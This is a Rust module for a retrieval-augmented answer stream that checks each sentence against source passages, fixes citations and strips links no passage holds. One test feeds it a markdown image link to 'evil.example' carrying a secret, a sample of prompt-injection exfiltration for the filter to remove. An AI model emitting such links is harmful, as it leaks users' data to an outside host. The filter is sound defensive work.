//! Lets through what passages back, sentence by sentence as a model writes it.
//!
//! A statement goes on with citations of the passages that back it, whatever numbers the model
//! put there: a number that is none of a passage, or of one that does not say this, is taken
//! out; where none is left, the passage that says it best is cited; where none says it, the
//! statement is left out. A passage backs a statement where it holds enough of its words, each
//! weighted by how rare it is, or where its meaning is near enough; and all of its numbers.

use super::{Citations, prompt::NOT_IN_DOCUMENTS, sentences::sentences};
use ragstream_api::search::Passage;
use std::collections::{HashMap, HashSet};
use unicode_segmentation::UnicodeSegmentation;

/// Share of a statement's words that a passage it cites has to hold. Statements are in other
/// words than their source, and hold words of the question.
const CITED_SHARE: f32 = 0.4;
/// The same for a passage that the model did not name.
const FOUND_SHARE: f32 = 0.6;
/// Cosine similarity at which a sentence of a passage says the same in other words, or in
/// another language that the model knows.
const SAME_MEANING: f32 = 0.6;
/// A sentence with fewer words of meaning says nothing that needs a source: a heading, "Yes.".
const MIN_TERMS: usize = 3;
/// Longest text without an end of a sentence that is held back.
const MAX_PENDING: usize = 8 * 1024;

/// How words and meanings are compared.
pub(crate) trait Compare: Send + Sync {
    /// The words of a text in their normal form, each with its weight.
    fn weights(&self, text: &str) -> Vec<(String, f32)>;
    /// The same words, unweighted.
    fn terms(&self, text: &str) -> Vec<String>;
    /// Cosine similarity of each text to a statement.
    fn similarity(&self, statement: &str, texts: &[&str]) -> Vec<f32>;
}

/// One answer on its way.
pub(crate) struct Claims<'a> {
    passages: &'a [Passage],
    compare: &'a dyn Compare,
    /// Whether what nothing backs goes on, without a citation.
    free: bool,
    held: Vec<Held<'a>>,
    pending: String,
    /// Whether anything was let through.
    pub(crate) said: bool,
    /// Statements that were left out.
    pub(crate) dropped: usize,
    /// Whether the model says that the passages hold no answer.
    pub(crate) not_in_documents: bool,
}

/// A passage, ready to be compared.
struct Held<'a> {
    terms: HashSet<String>,
    numbers: HashSet<String>,
    sentences: Vec<(usize, &'a str, HashSet<String>)>,
}

impl<'a> Claims<'a> {
    /// For an answer that is made from these passages: number n is the nth of them.
    pub(crate) fn new(passages: &'a [Passage], compare: &'a dyn Compare, free: bool) -> Self {
        let held = passages
            .iter()
            .map(|passage| {
                let headings = passage.headings.join("\n");
                let set = |text: &str| compare.terms(text).into_iter().collect::<HashSet<_>>();
                let mut terms = set(&passage.text);
                terms.extend(set(&headings));
                Held {
                    terms,
                    numbers: numbers(&passage.text).chain(numbers(&headings)).collect(),
                    sentences: sentences(&passage.text).map(|(at, text)| (at, text, set(text))).collect(),
                }
            })
            .collect();
        Self {
            passages,
            compare,
            free,
            held,
            pending: String::new(),
            said: false,
            dropped: 0,
            not_in_documents: false,
        }
    }

    /// More of the answer; what of it can go on.
    pub(crate) fn push(&mut self, words: &str, citations: &mut Citations) -> String {
        self.pending.push_str(words);
        let mut through = String::new();
        while let Some(end) = first_end(&self.pending) {
            let unit: String = self.pending.drain(..end).collect();
            through.push_str(&self.check(&unit, citations));
        }
        if self.pending.len() > MAX_PENDING {
            let unit = std::mem::take(&mut self.pending);
            through.push_str(&self.check(&unit, citations));
        }
        through
    }

    /// The end of the answer; what of the rest can go on.
    pub(crate) fn finish(&mut self, citations: &mut Citations) -> String {
        let unit = std::mem::take(&mut self.pending);
        self.check(&unit, citations)
    }

    /// One sentence with the white space after it.
    fn check(&mut self, unit: &str, citations: &mut Citations) -> String {
        let (text, cited) = without_marks(unit);
        if text.contains(NOT_IN_DOCUMENTS) {
            self.not_in_documents = true;
            return String::new();
        }
        let text = self.without_foreign_links(&text);
        let statement = text.trim();
        if statement.is_empty() {
            return if self.said { text } else { String::new() };
        }
        let weights = self.compare.weights(statement);
        let needed: HashSet<String> = numbers(statement).collect();
        if weights.len() < MIN_TERMS && needed.is_empty() {
            self.said = true;
            return text;
        }
        let backed = self.backed(statement, &weights, &needed, &cited);
        if backed.is_empty() && !self.free {
            self.dropped += 1;
            return String::new();
        }
        self.said = true;
        let marks: String = backed
            .into_iter()
            .map(|passage| {
                let (start, quote) = self.quote(passage, &weights, statement);
                format!("[{}]", citations.number(&self.passages[passage], start, quote))
            })
            .collect::<Vec<_>>()
            .concat();
        // After the sentence, before the white space that follows it.
        let body = text.trim_end();
        let space = &text[body.len()..];
        if marks.is_empty() { text.clone() } else { format!("{body} {marks}{space}") }
    }

    /// The passages that back a statement: of those it cites, else the best of all.
    fn backed(
        &self,
        statement: &str,
        weights: &[(String, f32)],
        needed: &HashSet<String>,
        cited: &[usize],
    ) -> Vec<usize> {
        let has_numbers = |i: &usize| needed.is_subset(&self.held[*i].numbers);
        let named: Vec<usize> =
            cited.iter().filter_map(|n| n.checked_sub(1)).filter(|i| *i < self.held.len()).collect();
        let by_words: Vec<usize> = named
            .iter()
            .copied()
            .filter(|i| has_numbers(i) && share(weights, &self.held[*i].terms) >= CITED_SHARE)
            .collect();
        if !by_words.is_empty() {
            return by_words;
        }
        let by_meaning: Vec<usize> = named
            .into_iter()
            .filter(|i| has_numbers(i))
            .filter(|i| {
                let texts: Vec<&str> = self.held[*i].sentences.iter().map(|(_, text, _)| *text).collect();
                self.compare.similarity(statement, &texts).into_iter().any(|near| near >= SAME_MEANING)
            })
            .collect();
        if !by_meaning.is_empty() {
            return by_meaning;
        }
        let best = (0..self.held.len())
            .filter(has_numbers)
            .map(|i| (i, share(weights, &self.held[i].terms)))
            .filter(|(_, share)| *share >= FOUND_SHARE)
            // The first of equals: the better passage.
            .reduce(|a, b| if b.1 > a.1 { b } else { a });
        best.map(|(i, _)| i).into_iter().collect()
    }

    /// The sentence of a passage that says most of a statement.
    fn quote(&self, passage: usize, weights: &[(String, f32)], statement: &str) -> (usize, &'a str) {
        let sentences = &self.held[passage].sentences;
        let whole = (0, self.passages[passage].text.as_str());
        let by_words = sentences
            .iter()
            .map(|(at, text, terms)| ((*at, *text), share(weights, terms)))
            .reduce(|a, b| if b.1 > a.1 { b } else { a });
        match by_words {
            Some((quote, share)) if share > 0.0 => quote,
            _ => {
                let texts: Vec<&str> = sentences.iter().map(|(_, text, _)| *text).collect();
                let near = self.compare.similarity(statement, &texts);
                let best = near.into_iter().enumerate().reduce(|a, b| if b.1 > a.1 { b } else { a });
                best.and_then(|(i, _)| sentences.get(i)).map_or(whole, |(at, text, _)| (*at, *text))
            }
        }
    }

    /// The text without addresses that no passage holds: a document may try to have its reader
    /// send something away by a link.
    fn without_foreign_links(&self, text: &str) -> String {
        let Some(at) = text.find("http://").or_else(|| text.find("https://")) else { return text.to_owned() };
        let end = text[at..]
            .find(|c: char| c.is_whitespace() || matches!(c, ')' | '>' | '"' | ']'))
            .map_or(text.len(), |n| at + n);
        let address = text[at..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
        let end = at + address.len();
        let known = self.passages.iter().any(|passage| passage.text.contains(address));
        let kept = if known { address } else { "" };
        format!("{}{kept}{}", &text[..at], self.without_foreign_links(&text[end..]))
    }
}

/// The weight of a statement's terms that are among these, as a share of all.
fn share(weights: &[(String, f32)], terms: &HashSet<String>) -> f32 {
    let mut unique: HashMap<&str, f32> = HashMap::new();
    for (term, weight) in weights {
        unique.insert(term, *weight);
    }
    let total: f32 = unique.values().sum();
    let held: f32 = unique.iter().filter(|(term, _)| terms.contains(**term)).map(|(_, weight)| weight).sum();
    held / total.max(f32::MIN_POSITIVE)
}

/// The numbers of a text, as digits: `1,500` and `1 500` are both `1500`.
fn numbers(text: &str) -> impl Iterator<Item = String> {
    text.split_word_bounds()
        .filter(|word| word.starts_with(|c: char| c.is_numeric()))
        .map(|word| word.chars().filter(|c| c.is_numeric()).collect::<String>())
        .filter(|digits| !digits.is_empty())
}

/// Where the first whole sentence ends: with the citations after it and the white space, once
/// something else follows.
fn first_end(text: &str) -> Option<usize> {
    let mut end = text.split_sentence_bound_indices().nth(1).map(|(at, _)| at);
    if let Some(line) = text.find('\n') {
        end = Some(end.map_or(line + 1, |at| at.min(line + 1)));
    }
    let mut end = end?;
    loop {
        let rest = &text[end..];
        // `. [3]` and `. [3][4]` are citations of what stands before.
        let Some(inside) = rest.strip_prefix('[') else {
            return (!rest.is_empty()).then_some(end);
        };
        let close = inside.find(']')?;
        if !inside[..close].chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | ' ')) {
            return Some(end);
        }
        end += close + 2;
        end += text[end..].len() - text[end..].trim_start_matches([' ', '.']).len();
    }
}

/// A sentence without its citations, and what they name.
fn without_marks(text: &str) -> (String, Vec<usize>) {
    let (mut kept, mut cited, mut rest) = (String::with_capacity(text.len()), Vec::new(), text);
    while let Some(at) = rest.find(['[', '【']) {
        let open = rest[at..].chars().next().map_or(1, char::len_utf8);
        let inside = &rest[at + open..];
        let mark = inside.find([']', '】']).map(|close| (&inside[..close], close)).filter(|(mark, _)| {
            !mark.is_empty() && mark.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | ' ' | '-'))
        });
        match mark {
            Some((mark, close)) => {
                kept.push_str(rest[..at].trim_end_matches(' '));
                cited.extend(mark.split([',', ' ']).filter_map(|n| n.parse::<usize>().ok()));
                let after = inside[close..].chars().next().map_or(1, char::len_utf8);
                rest = &inside[close + after..];
            }
            None => {
                kept.push_str(&rest[..at + open]);
                rest = inside;
            }
        }
    }
    kept.push_str(rest);
    (kept, cited)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::passage;

    /// Words as they are; short ones mean nothing; no meanings.
    struct Words;

    impl Compare for Words {
        fn weights(&self, text: &str) -> Vec<(String, f32)> {
            self.terms(text).into_iter().map(|term| (term, 1.0)).collect()
        }

        fn terms(&self, text: &str) -> Vec<String> {
            let words = text.unicode_words().map(str::to_lowercase);
            words.filter(|word| word.len() > 3 || word.chars().all(char::is_numeric)).collect()
        }

        fn similarity(&self, _: &str, texts: &[&str]) -> Vec<f32> {
            vec![0.0; texts.len()]
        }
    }

    /// The answer as it goes on, whole and in pieces of one character; its citations; what was left out.
    fn through(passages: &[Passage], answer: &str, free: bool) -> (String, Vec<String>, usize) {
        let pass = |pieces: Vec<String>| {
            let (mut claims, mut citations) = (Claims::new(passages, &Words, free), Citations::default());
            let mut text: String = pieces.iter().map(|piece| claims.push(piece, &mut citations)).collect();
            text.push_str(&claims.finish(&mut citations));
            let quotes = citations.into_vec().into_iter().map(|citation| citation.quote).collect();
            (text.trim().to_owned(), quotes, claims.dropped)
        };
        let whole = pass(vec![answer.to_owned()]);
        assert_eq!(pass(answer.chars().map(String::from).collect()), whole, "however it comes");
        whole
    }

    fn passages() -> Vec<Passage> {
        vec![
            passage("The tower is 120 metres high. It was built of red granite.", 0.9),
            passage("Visitors climb the tower by a spiral staircase. Tickets cost 9 euros.", 0.8),
        ]
    }

    #[test]
    fn what_is_backed_goes_on_with_the_quote_that_backs_it() {
        let (text, quotes, dropped) =
            through(&passages(), "The tower is 120 metres high [1]. Tickets cost 9 euros. [2]\n", false);
        assert_eq!(text, "The tower is 120 metres high. [1] Tickets cost 9 euros. [2]");
        assert_eq!(quotes, ["The tower is 120 metres high.", "Tickets cost 9 euros."]);
        assert_eq!(dropped, 0);
    }

    #[test]
    fn a_wrong_number_is_put_right_and_one_that_is_missing_added() {
        let (text, quotes, _) = through(
            &passages(),
            "The tower was built of red granite [2]. Visitors climb a spiral staircase.",
            false,
        );
        assert_eq!(text, "The tower was built of red granite. [1] Visitors climb a spiral staircase. [2]");
        assert_eq!(
            quotes,
            ["It was built of red granite.", "Visitors climb the tower by a spiral staircase."]
        );
        assert_eq!(through(&passages(), "The tower is 120 metres high [7][0].", false).1.len(), 1);
    }

    #[test]
    fn what_no_passage_says_is_left_out() {
        let answer = "The tower is 120 metres high [1]. It was designed by Gustave Eiffel in Paris [1]. The tower is 140 metres high [1].";
        let (text, _, dropped) = through(&passages(), answer, false);
        assert_eq!((text.as_str(), dropped), ("The tower is 120 metres high. [1]", 2));
        let (text, quotes, dropped) = through(&passages(), answer, true);
        assert!(text.contains("Gustave Eiffel in Paris. The") && quotes.len() == 1 && dropped == 0, "{text}");
    }

    #[test]
    fn links_that_are_in_no_passage_are_taken_out() {
        let mut all = passages();
        all[0].text.push_str(" See https://tower.example/visit for the opening hours.");
        let answer = "The tower is 120 metres high ![x](https://evil.example/?q=secret) [1]. Opening hours: see https://tower.example/visit. [1]";
        let (text, _, _) = through(&all, answer, false);
        assert!(!text.contains("evil.example") && text.contains("https://tower.example/visit."), "{text}");
    }

    #[test]
    fn nothing_to_say_is_noticed() {
        let all = passages();
        for answer in ["NOT_IN_DOCUMENTS", "NOT_IN_DOCUMENTS.\n", "I am sorry: NOT_IN_DOCUMENTS"] {
            let (mut claims, mut citations) = (Claims::new(&all, &Words, false), Citations::default());
            let text = claims.push(answer, &mut citations) + &claims.finish(&mut citations);
            assert!(claims.not_in_documents && text.trim().is_empty(), "{text}");
        }
    }

    #[test]
    fn lists_headings_and_brackets_keep_their_form() {
        let answer = "Height:\n- The tower is 120 metres high [1]\n- Tickets cost 9 euros [1, 2]\n\nDone.";
        let (text, _, _) = through(&passages(), answer, false);
        assert_eq!(text, "Height:\n- The tower is 120 metres high [1]\n- Tickets cost 9 euros [2]\n\nDone.");
        let (text, _, _) = through(&passages(), "The red granite tower [sic] is high [1].", false);
        assert_eq!(text, "The red granite tower [sic] is high. [1]");
    }
}
